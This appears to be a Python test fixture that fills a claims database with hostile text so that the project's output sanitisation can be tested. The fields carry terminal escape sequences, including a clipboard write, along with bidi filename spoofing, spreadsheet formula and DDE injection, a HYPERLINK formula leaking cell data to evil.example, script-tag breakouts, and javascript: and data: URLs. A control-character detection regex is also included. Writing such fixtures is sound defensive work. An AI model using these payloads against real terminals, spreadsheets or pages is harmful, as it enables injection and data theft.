"""Hostile data, made in the tests: terminal escapes, bidi overrides, formulas, script breakers, bad URLs."""

from __future__ import annotations

import re
from dataclasses import dataclass

from sqlite_utils import Database

import claims_db

ESC_CLEAR = "\x1b[2J\x1b[H"  # clear the screen, cursor home
OSC52 = "\x1b]52;c;ZWNobyBwd25lZA==\x07"  # write to the clipboard
C1_CSI = "\x9b31m"  # the 8-bit CSI some terminals still honour
BIDI = "\u202etxt.exe\u202c \u2066isolated\u2069"
NEWLINE = "first\nFAKE: second\rthird"
FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
SCRIPT_END = "</script><script>alert(1)</script><!--"
JS_URL = "javascript:alert(1)"
DATA_URL = "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="
GOOD_URL = "https://good.example/a?b=1&c=<2>"

# What a terminal would run or reorder; no line for a person may carry any of it.
RAW_CONTROL = re.compile("[\x00-\x08\x0a-\x1f\x7f-\x9f\u2028\u2029\u202a-\u202e\u2066-\u2069]")


def raw_controls(text: str, allowed: str = "\n") -> list[str]:
    return [c for c in RAW_CONTROL.findall(text) if c not in allowed]


@dataclass
class Hostile:
    article_id: int
    claim_ids: list[int]
    record_ids: list[int]
    dataset: str
    checker: str


def make_hostile(db: Database) -> Hostile:
    """An article, claims, records and verdicts whose every text field is hostile."""
    article = claims_db.add_article(
        db,
        f"{ESC_CLEAR} said 5 people died. {FORMULA} said 7 people died. {OSC52} said 9 people died.",
        title=f"{ESC_CLEAR}Title {OSC52}{SCRIPT_END}{BIDI}\nsecond line",
        url=JS_URL,
        published_at="2026-01-02",
    ).article
    fields = [
        {"text": f"{FORMULA} said 5", "claimant": f"+cmd|' /C calc'!A0 {ESC_CLEAR}", "normalized": f"-2+3 {C1_CSI}"},
        {"text": f"@SUM(1) {SCRIPT_END}", "claimant": f"\tTAB {BIDI}", "normalized": f"\rCR {NEWLINE}"},
        {"text": f"plain {OSC52} {NEWLINE}", "claimant": "Ann", "normalized": None},
    ]
    claim_ids = claims_db.add_claims(
        db, article.id, [{"start": i * 10, "end": i * 10 + 5, **f} for i, f in enumerate(fields)]
    )
    dataset_name = f"evil{ESC_CLEAR}{BIDI}\nname"
    dataset = claims_db.upsert_dataset(db, dataset_name, source="test", format="jsonl")
    records = [
        {"key": "=1+1", "text": f"{FORMULA} record", "title": SCRIPT_END, "url": JS_URL, "publisher": OSC52},
        {"key": f"k2{ESC_CLEAR}", "text": f"data {C1_CSI}", "url": DATA_URL, "rating": f"-{BIDI}"},
        {"key": "k3", "text": f"good {SCRIPT_END}", "url": GOOD_URL, "publisher": f"@pub{NEWLINE}"},
        {"key": "k4", "text": "tabbed", "url": "java\tscript:alert(2)", "publisher": "Ok"},
    ]
    claims_db.upsert_records(db, dataset.id, records)
    record_ids = [row[0] for row in db.execute("SELECT id FROM records WHERE dataset_id = ? ORDER BY id", [dataset.id])]
    checker = f"{ESC_CLEAR}mallory{BIDI}\nroot"
    claims_db.add_verdict(db, claim_ids[0], "false", checker=checker, note=f"{FORMULA}\n{SCRIPT_END}{OSC52}",
                          evidence=record_ids)  # fmt: skip
    claims_db.add_verdict(db, claim_ids[1], "misleading", checker=f"-{checker}", note=f"\t{BIDI}")
    return Hostile(article.id, claim_ids, record_ids, dataset_name, checker)
